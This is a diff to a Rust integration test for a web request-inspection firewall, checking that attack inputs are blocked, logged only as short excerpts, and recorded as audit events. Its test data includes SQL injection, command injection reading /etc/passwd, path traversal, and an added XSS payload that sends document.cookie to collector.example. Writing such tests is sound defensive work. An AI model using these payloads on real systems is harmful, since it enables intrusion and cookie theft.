@@ -46,7 +46,8 @@ async fn attacks_are_blocked_and_lookalikes_pass() {
     let attacks = vec![
         ("sqli in query", get("q=1%27%20OR%20%271%27%3D%271%27--%20")),
         ("union in query", get("id=1%20UNION%20SELECT%20password%20FROM%20users")),
-        ("xss in json", put(json!({"name": "<script>alert(document.cookie)</script>"}))),
+        // Longer than an excerpt (40 characters): the cookie grab is past the cut.
+        ("xss in json", put(json!({"name": "<script>fetch('//collector.example/c?'+document.cookie)</script>"}))),
         ("event handler in json", put(json!({"email": "x\" onmouseover=\"alert(1)"}))),
         ("cmdi in query", get("host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd")),
         ("traversal in query", get("file=..%2F..%2F..%2Fetc%2Fpasswd")),
@@ -97,6 +98,35 @@ async fn attacks_are_blocked_and_lookalikes_pass() {
         !log.contains("document.cookie"),
         "the log must hold excerpts, not payloads in full"
     );
+    // Each block is an audit event naming the route, the parameter, the detector and
+    // a short excerpt.
+    let mut events = Vec::new();
+    for _ in 0..100 {
+        events = env
+            .ok(&["audit-log", "export", "--kind", "inspection-blocked"], "")
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .collect();
+        if events.len() >= ids.len() {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    assert_eq!(events.len(), ids.len(), "one event per block: {events:?}");
+    let union = events
+        .iter()
+        .find(|e| e["centinela"]["details"]["parameters"][0] == "id")
+        .expect("the UNION attack's event");
+    let d = &union["centinela"]["details"];
+    assert_eq!(d["route"], "customer", "{d}");
+    assert_eq!(d["mode"], "block");
+    let f = &d["findings"][0];
+    assert_eq!(f["detector"], "sqli", "{f}");
+    assert_eq!(f["parameter"], "id", "{f}");
+    assert!(f["reason"].as_str().is_some_and(|r| !r.is_empty()), "{f}");
+    let excerpt = f["excerpt"].as_str().expect("excerpt");
+    assert!(excerpt.contains("UNION"), "{excerpt}");
+    assert!(excerpt.chars().count() <= 41, "{excerpt}");
 
     // Benign look-alikes pass untouched.
     for (what, body) in [
